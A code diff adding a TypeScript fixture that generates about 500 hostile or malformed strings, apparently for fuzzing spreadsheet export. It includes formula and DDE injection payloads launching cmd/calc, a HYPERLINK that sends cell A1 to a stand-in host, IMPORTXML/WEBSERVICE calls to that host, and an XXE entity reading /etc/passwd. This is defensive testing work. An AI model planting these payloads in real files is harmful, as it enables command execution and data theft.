@@ -1,0 +1,102 @@
+/** Five hundred texts that spreadsheets have been tricked with, or that have broken the file they stand in. */
+export function formulaPayloads(): readonly string[] {
+  const starts = [
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t=",
+    "\t@",
+    "\r=",
+    "\n=",
+    " =",
+    "＝",
+    "'=",
+    '"=',
+    ";=",
+    "\u0000=",
+    "\ufeff=",
+    "%0A=",
+  ];
+  const formulas = [
+    'HYPERLINK("https://ond.example/?"&A1,"Klikk her")',
+    "cmd|' /C calc'!A0",
+    "1+1",
+    "SUM(A1:A9)",
+    'IMPORTXML("https://ond.example","//a")',
+    'WEBSERVICE("https://ond.example")',
+    'DDE("cmd";"/C calc";"x")',
+    'INDIRECT("Ark1!A1")',
+    "A1",
+    "2+5+cmd|' /C calc'!A0",
+    'IMAGE("https://ond.example/p.png")',
+    "REGISTER.ID(1)",
+    "CALL(1)",
+    'EXEC("calc")',
+    "rundll32|'URL.dll,OpenURL x'!A",
+    "MSEXCEL|'..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
+    "'Ark 1'!A1",
+    "{1;2}",
+    "LET(x,1,x)",
+    "LAMBDA(x,x)(1)",
+    "_xlfn.WEBSERVICE(1)",
+    "1E5",
+    "47 11 12 13",
+    "TRUE",
+    "NOW()",
+    "https://ond.example",
+  ];
+  const markup = [
+    "<f>1+1</f>",
+    "</t></si><si><t>",
+    "]]>",
+    "<![CDATA[",
+    "&#61;1+1",
+    "&equals;",
+    "<!--",
+    "&",
+    "<",
+    ">",
+    '"',
+    "'",
+    "</v></c><c><f>1+1</f></c>",
+    "<?xml version='1.0'?>",
+    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
+    "&e;",
+  ];
+  const broken = Array.from({ length: 32 }, (_, code) => `Før${String.fromCharCode(code)}etter`);
+  const halves = [
+    "\ud800",
+    "\udc00",
+    "a\ud83d",
+    "\udc00\udc00",
+    "\ufffe",
+    "\uffff",
+    "💧",
+    "👩‍🔧",
+    "\u202e=1+1",
+    "\u200b=1+1",
+  ];
+  const escapes = ["_x003D_1+1", "_x0000_", "_x005F_x003D_", "_x000D_", "_X0041_"];
+  const names = [
+    "__proto__",
+    "constructor",
+    "toString",
+    "valueOf",
+    "hasOwnProperty",
+    "isPrototypeOf",
+    "toLocaleString",
+  ];
+  const plain = ["0047", "1/2", "1-2", "TRUE", "#REF!", "#N/A", "1,5", "   ", " kant ", "x".repeat(40_000)];
+  const combined = starts.flatMap((start) => formulas.map((formula) => `${start}${formula}`));
+  return [
+    ...combined,
+    ...markup,
+    ...broken,
+    ...halves,
+    ...escapes,
+    ...names,
+    ...plain,
+    ...names.map((name) => `=${name}`),
+  ].slice(0, 500);
+}
